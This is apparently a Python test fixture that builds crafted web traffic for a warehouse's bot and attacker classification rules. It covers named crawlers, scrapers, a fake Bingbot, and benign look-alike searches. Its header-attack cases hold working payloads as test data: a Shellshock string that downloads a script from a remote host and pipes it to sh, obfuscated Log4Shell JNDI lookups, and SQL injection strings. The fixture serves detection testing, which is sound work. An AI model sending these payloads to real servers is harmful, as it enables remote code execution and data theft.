"""Crafted traffic for the classification rules: bots of every category, fast readers, header
attacks and innocent look-alikes, each visitor with the answer the warehouse must give."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import timedelta

from lake_factory import CHROME, FIREFOX, GOOGLEBOT, Hit
from traffic import at, page_with_assets


@dataclass(frozen=True)
class Case:
    """One visitor: its hits and what the build must say about it."""

    name: str
    ip: str
    user_agent: str | None
    visitor_class: str
    hits: tuple[Hit, ...]
    reason: str
    bot: tuple[str, str] | None = None  # (bot_name, bot_category) in `bots`
    kinds: frozenset[str] = frozenset()
    verified: bool | None = None


def _same(ip: str, ua: str | None, paths: list[str], start: float = 0, **kw: object) -> list[Hit]:
    """One hit per path, a minute apart."""
    return [
        Hit(at(start + i), ip=ip, user_agent=ua, path=p, **kw)  # type: ignore[arg-type]
        for i, p in enumerate(paths)
    ]


def _named(
    name: str,
    ip: str,
    ua: str,
    bot: tuple[str, str],
    crawler_name: str | None,
    method: str = "GET",
    paths: tuple[str, ...] = ("/", "/blog/", "/feed/"),
) -> Case:
    """A bot the list names; `crawler_name` is what crawlerdetect says (None: it misses it)."""
    hits = _same(
        ip,
        ua,
        list(paths),
        method=method,
        is_bot=crawler_name is not None,
        bot_name=crawler_name,
    )
    return Case(name, ip, ua, "bot", tuple(hits), f"{bot[1]} bot User-Agent ({bot[0]})", bot)


def _reader(ip: str, ua: str, pages: list[tuple[str, str | None]], **kw: object) -> list[Hit]:
    """A person reading pages with their assets, two minutes apart."""
    hits: list[Hit] = []
    for i, (path, query) in enumerate(pages):
        hits += page_with_assets(ip, ua, 2 * i, path=path, query=query, **kw)
    return hits


UPTIMEROBOT = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
PINGDOM = "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"
FEEDLY = "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers; like FeedFetcher-Google)"
INOREADER = "Mozilla/5.0 (compatible; inoreader.com; 12 subscribers)"
FACEBOOK = "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"
SLACK = "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"
WHATSAPP = "WhatsApp/2.23.20.0"
LINKEDIN = "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)"
CLAUDEBOT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0)"
META_AGENT = (
    "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)"
)
CHATGPT_USER = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; "
    "+https://openai.com/bot"
)
AHREFS = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"
MJ12 = "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)"
CURL = "curl/8.5.0"
REQUESTS = "python-requests/2.32.3"
GO_HTTP = "Go-http-client/1.1"
HEADLESS = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "HeadlessChrome/131.0.6778.85 Safari/537.36"
)
PHANTOM = (
    "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) "
    "PhantomJS/2.1.1 Safari/538.1"
)
YANDEX = "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"
NEW_CRAWLER = "Mozilla/5.0 (compatible; Spinn3r-crawler/3.1)"
# Bing's crawler as it announces itself now: a browser string with bingbot inside.
BROWSER_BINGBOT = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
    "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"
)

NAMED_BOTS: tuple[Case, ...] = (
    _named("uptimerobot", "192.0.2.101", UPTIMEROBOT, ("UptimeRobot", "monitor"), "UptimeRobot",
           "HEAD", ("/",) * 12),
    # crawlerdetect misses none of these; the list alone must still make them bots.
    _named("pingdom", "192.0.2.102", PINGDOM, ("Pingdom", "monitor"), None, "HEAD"),
    _named("feedly", "192.0.2.103", FEEDLY, ("Feedly", "feed"), "Feedly", paths=("/feed/",) * 3),
    _named("inoreader", "192.0.2.104", INOREADER, ("Inoreader", "feed"), None,
           paths=("/feed/",) * 2),
    _named("facebook", "192.0.2.105", FACEBOOK, ("facebookexternalhit", "social"),
           "facebookexternalhit", paths=("/blog/post-1", "/img/post-1.jpg")),
    _named("slack", "192.0.2.106", SLACK, ("Slackbot", "social"), "Slackbot",
           paths=("/blog/post-1",)),
    _named("whatsapp", "192.0.2.107", WHATSAPP, ("WhatsApp", "social"), None,
           paths=("/blog/post-1",)),
    _named("linkedin", "192.0.2.108", LINKEDIN, ("LinkedInBot", "social"), "LinkedInBot",
           paths=("/blog/post-1",)),
    _named("claudebot", "192.0.2.109", CLAUDEBOT, ("ClaudeBot", "ai"), "ClaudeBot"),
    _named("meta-agent", "192.0.2.110", META_AGENT, ("meta-externalagent", "ai"), "crawl"),
    _named("chatgpt-user", "192.0.2.111", CHATGPT_USER, ("ChatGPT-User", "ai"), None,
           paths=("/pricing",)),
    _named("ahrefs", "192.0.2.112", AHREFS, ("AhrefsBot", "seo"), "AhrefsBot"),
    _named("mj12", "192.0.2.113", MJ12, ("MJ12bot", "seo"), "MJ12bot"),
    _named("curl", "192.0.2.114", CURL, ("curl", "library"), "curl", paths=("/",)),
    _named("requests", "192.0.2.115", REQUESTS, ("python-requests", "library"), "python-requests"),
    _named("go-http", "192.0.2.116", GO_HTTP, ("Go-http-client", "library"), "Go-http-client"),
    _named("yandex", "192.0.2.117", YANDEX, ("YandexBot", "search"), "YandexBot"),
    _named("phantomjs", "192.0.2.118", PHANTOM, ("PhantomJS", "headless"), None),
)  # fmt: skip

# HeadlessChrome reading at a person's pace, assets included: its User-Agent alone tells.
HEADLESS_READER = Case(
    "headless-chrome",
    "192.0.2.120",
    HEADLESS,
    "bot",
    tuple(_reader("192.0.2.120", HEADLESS, [("/", None), ("/blog/", None)])),
    "headless bot User-Agent (HeadlessChrome)",
    ("HeadlessChrome", "headless"),
)


def _scraper(ip: str, pages_per_minute: int, minutes: int) -> list[Hit]:
    """A browser User-Agent with assets, `pages_per_minute` pages in each of `minutes` minutes."""
    hits = page_with_assets(ip, CHROME, 200, path="/catalogue/")
    gap = timedelta(seconds=60 / pages_per_minute)
    start = at(201)
    for i in range(pages_per_minute * minutes):
        t = start + i * gap
        hits.append(Hit(t, ip=ip, user_agent=CHROME, path=f"/catalogue/{i}"))
        hits.append(Hit(t, ip=ip, user_agent=CHROME, path=f"/img/product-{i}.webp"))
    return hits


# 30 pages a minute for 4 minutes, each with its image: no person reads that fast.
FAST_SCRAPER = Case(
    "fast-scraper",
    "192.0.2.121",
    CHROME,
    "bot",
    tuple(_scraper("192.0.2.121", 30, 4)),
    "pages faster than a person reads",
    ("unnamed", "other"),
)
# 25 tabs opened in one minute, then read: a burst once is a person.
TAB_OPENER = Case(
    "tab-opener",
    "198.51.100.121",
    FIREFOX,
    "human",
    tuple(
        page_with_assets("198.51.100.121", FIREFOX, 300)
        + [
            Hit(
                at(300.5) + timedelta(seconds=i),
                ip="198.51.100.121",
                user_agent=FIREFOX,
                path=f"/catalogue/{i}",
            )
            for i in range(25)
        ]
    ),
    "browser that loads assets",
)
# A crawler crawlerdetect knows and the list does not: named by crawlerdetect, category other.
OTHER_CRAWLER = Case(
    "other-crawler",
    "192.0.2.122",
    NEW_CRAWLER,
    "bot",
    tuple(_same("192.0.2.122", NEW_CRAWLER, ["/", "/a"], is_bot=True, bot_name="crawler")),
    "crawler User-Agent",
    ("crawler", "other"),
)
VERIFIED_GOOGLE = Case(
    "googlebot",
    "66.249.64.5",
    GOOGLEBOT,
    "bot",
    tuple(_same("66.249.64.5", GOOGLEBOT, ["/", "/a"], is_bot=True, bot_name="Googlebot")),
    "search bot User-Agent (Googlebot)",
    ("Googlebot", "search"),
    verified=True,
)
# Bing's User-Agent from a home address, loading pages and assets like a person, and missed by
# the lake's crawler list (a browser to it): never human.
FAKE_BING = Case(
    "fake-bingbot",
    "198.51.100.130",
    BROWSER_BINGBOT,
    "attacker",
    tuple(
        _reader(
            "198.51.100.130",
            BROWSER_BINGBOT,
            [("/", None), ("/blog/", None)],
            extra={"browser": "Chrome", "device": "desktop"},
        )
    ),
    "security events: fake_search_bot",
    kinds=frozenset({"fake_search_bot"}),
    verified=False,
)

SHELLSHOCK = '() { :; }; /bin/bash -c "curl -s http://198.51.100.66/x.sh | sh"'
HEADER_ATTACKS: tuple[Case, ...] = (
    Case("shellshock-ua", "203.0.113.101", SHELLSHOCK, "attacker",
         tuple(_same("203.0.113.101", SHELLSHOCK, ["/cgi-bin/status"])),
         "security events: shellshock", kinds=frozenset({"shellshock"})),
    Case("shellshock-referer", "203.0.113.102", CHROME, "attacker",
         tuple(_same("203.0.113.102", CHROME, ["/"], referer="() { _; } >_[$($())] { id; }")),
         "security events: shellshock", kinds=frozenset({"shellshock"})),
    Case("log4shell-ua", "203.0.113.103", "${jndi:ldap://198.51.100.66:1389/a}", "attacker",
         tuple(_same("203.0.113.103", "${jndi:ldap://198.51.100.66:1389/a}", ["/"])),
         "security events: log4shell", kinds=frozenset({"log4shell"})),
    Case("log4shell-referer", "203.0.113.104", FIREFOX, "attacker",
         tuple(_same("203.0.113.104", FIREFOX, ["/"],
                     referer="${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.66/a}")),
         "security events: log4shell", kinds=frozenset({"log4shell"})),
    Case("log4shell-query", "203.0.113.105", CHROME, "attacker",
         tuple(_same("203.0.113.105", CHROME, ["/"],
                     query="x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.66%2Fa%7D")),
         "security events: log4shell", kinds=frozenset({"log4shell"})),
    Case("referer-sqli", "203.0.113.106", CHROME, "attacker",
         tuple(_same("203.0.113.106", CHROME, ["/produits/"],
                     referer="https://www.example.com/item.php?id=1%27%20UNION%20SELECT%20NULL--")),
         "security events: sql_injection", kinds=frozenset({"sql_injection"})),
    Case("referer-tautology", "203.0.113.107", FIREFOX, "attacker",
         tuple(_same("203.0.113.107", FIREFOX, ["/contact/"], referer="' or '1'='1")),
         "security events: sql_injection", kinds=frozenset({"sql_injection"})),
    # The same injection in the query and the referer of one hit: one event, not two.
    Case("double-sqli", "203.0.113.108", CHROME, "attacker",
         tuple(_same("203.0.113.108", CHROME, ["/item.php"], query="id=1+or+1=1",
                     referer="https://www.example.com/item.php?id=1+or+1=1")),
         "security events: sql_injection", kinds=frozenset({"sql_injection"})),
)  # fmt: skip

# Ordinary browsing that looks like an attack to a careless rule: (path, query, referer).
LOOKALIKES: tuple[tuple[str, str | None, str | None], ...] = (
    ("/search", "q=drop-down+select+or+insert+options", None),
    ("/blog/linux-etc-hosts-explained/", None, None),
    ("/administration-guide/", None, None),
    ("/search", "q=l'%C3%A9t%C3%A9+%22en+famille%22", None),
    ("/search", "q=O'Reilly+%22Learning+SQL%22+or+%22SQL+in+a+nutshell%22", None),
    ("/search", "q=%22cats%22+and+others+like+them", None),
    ("/search", "q=sleep+(2023+film)", None),
    ("/search", "q=drop-down+(select+or+insert)+options", None),
    ("/search", "q=%22grep%22+--color", None),
    ("/search", "q=function()+{+return+1;+}", None),
    ("/search", "q=%22rock%22+or+%22jazz%22+is+better", None),
    ("/", None, "https://www.google.fr/search?q=%22select%22+or+%27insert%27+drop-down+options"),
    ("/", None, "https://www.bing.com/search?q=drop+table+or+insert+into+the+kitchen"),
    ("/docs/", None, "https://docs.example.org/shell?q=${HOME}/bin"),
    ("/blog/", None, 'https://forum.example.net/t/it\'s-the-"best"-or-not/42'),
)
LOOKALIKE_READER = Case(
    "lookalike-reader",
    "198.51.100.140",
    FIREFOX,
    "human",
    tuple(
        hit
        for i, (path, query, referer) in enumerate(LOOKALIKES)
        for hit in page_with_assets(
            "198.51.100.140", FIREFOX, i, path=path, query=query, referer=referer
        )
    ),
    "browser that loads assets",
)

EVERY_CASE: tuple[Case, ...] = (
    *NAMED_BOTS,
    HEADLESS_READER,
    FAST_SCRAPER,
    TAB_OPENER,
    OTHER_CRAWLER,
    VERIFIED_GOOGLE,
    FAKE_BING,
    *HEADER_ATTACKS,
    LOOKALIKE_READER,
)


def classification_hits() -> list[Hit]:
    return [hit for case in EVERY_CASE for hit in case.hits]
